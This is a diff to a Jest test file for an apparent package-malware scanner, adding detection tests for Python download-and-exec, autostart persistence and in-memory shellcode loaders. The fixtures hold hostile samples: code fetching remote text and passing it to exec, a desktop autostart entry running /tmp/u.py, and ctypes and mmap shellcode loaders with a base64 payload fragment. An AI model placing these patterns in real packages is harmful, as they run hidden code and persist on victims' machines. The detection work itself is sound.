@@ -1,5 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import { jsExecDecoded } from '../../../src/analysis/rules/js-exec-decoded.js';
+import { codeMemoryExecution } from '../../../src/analysis/rules/code-memory-execution.js';
 import { pyDownloadExecute } from '../../../src/analysis/rules/py-download-execute.js';
 import { pyExecDecoded } from '../../../src/analysis/rules/py-exec-decoded.js';
 import { pyExfiltration } from '../../../src/analysis/rules/py-exfiltration.js';
@@ -265,5 +266,73 @@ describe('javascript string tables', () => {
       'package/index.js': `const _0x1 = ['\\x65\\x76\\x61\\x6c', 'log'];\nglobal[_0x1[0]](Buffer.from('${payload}', 'base64').toString());\n`,
     });
     expect(gating(findings)).toHaveLength(1);
+  });
+});
+
+describe('more places and paths', () => {
+  it('follows what a module passes to its own exec helper', async () => {
+    const findings = await runOn(pyExecDecoded, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/__init__.py': [
+        'import requests',
+        'def _get():',
+        '    return requests.get("https://cdn.example.net/s.txt").text',
+        'def _run(code):',
+        '    exec(code)',
+        '_run(_get())',
+      ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+  });
+
+  it('counts a desktop autostart entry reached through expanduser as persistence', async () => {
+    const findings = await runOn(pyPersistence, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/__init__.py': [
+        'import os',
+        "p = os.path.expanduser('~/.config/autostart/update.desktop')",
+        "open(p, 'w').write('[Desktop Entry]\\nExec=python3 /tmp/u.py\\n')",
+      ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+  });
+
+  it('flags a ctypes shellcode loader and an mmap one', async () => {
+    const windows = await runOn(codeMemoryExecution, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/__init__.py': [
+        'import ctypes, base64',
+        "sc = base64.b64decode('/EiD5PDozAAAAEFRQVBSUVZIMdJlSItSYA==')",
+        'k = ctypes.windll.kernel32',
+        'ptr = k.VirtualAlloc(0, len(sc), 0x3000, 0x40)',
+        'k.RtlMoveMemory(ctypes.c_void_p(ptr), sc, len(sc))',
+        'k.CreateThread(0, 0, ctypes.c_void_p(ptr), 0, 0, 0)',
+      ].join('\n'),
+    });
+    expect(windows[0]?.severity).toBe('critical');
+    const linux = await runOn(codeMemoryExecution, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/jit.py': [
+        'import mmap, ctypes',
+        'def run(buf):',
+        '    m = mmap.mmap(-1, len(buf), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)',
+        '    m.write(buf)',
+        '    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()',
+      ].join('\n'),
+    });
+    expect(gating(linux)).toHaveLength(1);
+  });
+
+  it('keeps a single memory-protection call below the gate', async () => {
+    const findings = await runOn(codeMemoryExecution, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/guard.py': [
+        'import ctypes',
+        'def protect(addr, size):',
+        '    old = ctypes.c_ulong()',
+        '    return ctypes.windll.kernel32.VirtualProtect(addr, size, 0x02, ctypes.byref(old))',
+      ].join('\n'),
+    });
+    expect(gating(findings)).toEqual([]);
   });
 });
